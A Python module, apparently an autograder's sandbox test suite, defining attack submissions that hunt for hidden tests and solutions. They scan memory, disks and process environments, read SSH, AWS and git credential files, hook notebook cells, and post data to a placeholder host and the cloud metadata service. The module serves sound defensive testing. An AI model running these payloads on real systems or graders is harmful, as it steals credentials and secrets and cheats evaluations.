"""Attacks that want to see what is hidden. Each tells what it found: `says` proves that it looked and found nothing."""

from . import TARGET, Attack

LOOKS = '''
MARKS = ["-".join(["HIDDEN", "4711"]), "_".join(["assert", "gradient"]), " ".join(["BEGIN", "SOLUTION"]),
         " ".join(["the", "tests'", "own"])]
def found(texts):
    """Tell how many of the texts hold something hidden, by the only ways there are."""
    import itertools
    seen, hits = 0, []
    for text in itertools.islice(texts, 20000):
        seen += 1
        hits += [text for mark in MARKS if isinstance(text, str) and mark in text and text not in MARKS]
    print("found", hits)
    raise IndexError(f"index {len(hits)} is out of bounds for axis 7 with size {seen}")
'''
NOTHING_IN = r"index 0 is out of bounds for axis 7 with size [1-9]\d*"
MEMORY = """
def texts_in_memory():
    import gc, linecache, sys
    frame = sys._getframe(1)
    while frame is not None:
        yield from [value for value in frame.f_locals.values() if type(value) is str]
        frame = frame.f_back
    yield from get_ipython().user_ns.get("In", [])
    yield from ("".join(entry[2]) for entry in list(linecache.cache.values()) if len(entry) > 2)
    for thing in gc.get_objects():
        if type(thing) is dict:
            yield from [value for value in list(thing.values()) if type(value) is str][:50]
        elif type(thing) in (list, tuple):
            yield from [value for value in thing[:20] if type(value) is str]
"""
FILES = """
def texts_in_files():
    import os, sys
    everywhere = ["/notebook", "/grader", "/home", "/root", "/tmp", "/etc", "/work", "/autograder", *sys.path]
    for place in everywhere if os.path.exists("/grader") else ["."]:
        for folder, _, names in os.walk(place):
            if "/site" in folder or folder.startswith(sys.base_prefix + "/lib/"):
                continue
            for name in names[:200]:
                try:
                    with open(os.path.join(folder, name), "rb") as file:
                        yield file.read(100_000).decode("utf-8", "replace")
                except OSError:
                    pass
"""
ENVIRONMENT = """
def texts_around():
    import glob, os
    yield from (f"{name}={value}" for name, value in os.environ.items())
    wall = os.path.exists("/grader")
    for path in glob.glob("/proc/*/environ" if wall else "/proc/self/environ"):
        try:
            yield open(path, "rb").read(100_000).decode("utf-8", "replace")
        except OSError:
            pass
"""
CREDENTIALS = """
def texts_of_credentials():
    import glob, os
    wall = os.path.exists("/grader")
    for home in [os.path.expanduser("~"), *(["/root", *glob.glob("/home/*")] if wall else [])]:
        for name in (".netrc", ".git-credentials", ".aws/credentials", ".ssh/id_rsa", ".jupyter/jupyter_config.py"):
            try:
                yield open(os.path.join(home, name), "rb").read(100_000).decode("utf-8", "replace")
            except OSError as error:
                yield f"{name}: {error}"
"""
HOOK = (
    """
cells_run = []
get_ipython().events.register("pre_run_cell", lambda info: (cells_run.append(info.raw_cell), print(info.raw_cell)))
"""
    + LOOKS
    + f"def {TARGET}(z):\n    found(cells_run)\n"
)
POSTS = f"""
def {TARGET}(z):
    import os, socket
    reached, metadata = 0, [("169.254.169.254", 80)] * os.path.exists("/grader")  # asked from inside only
    for host, port in [*metadata, *((host, @PORT@) for host in ("127.0.0.1", "localhost", "@HOST@"))]:
        try:
            with socket.create_connection((host, port), timeout=0.5) as there:
                there.sendall(b"hidden")
                reached += 1
        except OSError:
            pass
    raise IndexError(f"index {{reached}} is out of bounds for axis 7 with size {{3 + len(metadata)}}")
"""
INPUTS = f"""
def {TARGET}(z):
    import warnings
    inputs = "INPUTS-" + "-".join(f"{{value:.6f}}" for value in np.ravel(z)[:8])
    print(inputs)
    warnings.warn(inputs)
    {TARGET}.__doc__ = {TARGET}.__name__ = inputs
    raise type(inputs, (Exception,), {{}})(inputs)
"""


def looks(code, where):
    """Return code whose target function looks there."""
    return LOOKS + code + f"def {TARGET}(z):\n    found({where}())\n"


ATTACKS = [
    Attack(
        "reads_memory",
        "Frames, cell history, line cache and all objects are searched for tests and constants.",
        looks(MEMORY, "texts_in_memory"),
        bites="leaks",
        says=NOTHING_IN,
    ),
    Attack(
        "reads_files",
        "The disk is searched for tests, solutions and the course's secret.",
        looks(FILES, "texts_in_files"),
        bites="leaks",
        says=NOTHING_IN,
    ),
    Attack(
        "reads_environment",
        "The environments of this process and of all others are read.",
        looks(ENVIRONMENT, "texts_around"),
        bites="leaks",
        says=NOTHING_IN,
    ),
    Attack(
        "reads_credentials",
        "Files with passwords and keys are read, in every home folder.",
        looks(CREDENTIALS, "texts_of_credentials"),
        bites="leaks",
        says=NOTHING_IN,
    ),
    Attack("hooks_cells", "A hook prints every later cell before it runs.", HOOK, bites="leaks", says=NOTHING_IN),
    Attack(
        "posts_to_the_network",
        "What was seen is posted to a server of the student's, and the cloud's metadata service is asked.",
        POSTS,
        bites="harms",
        says="index 0 is out of bounds for axis 7 with size 4",
    ),
    Attack(
        "shouts_inputs",
        "Hidden inputs are put into prints, warnings, docstrings, names and texts of exceptions.",
        INPUTS,
        naive="inputs",
        bites="leaks",
        says="it raised an exception",
    ),
]
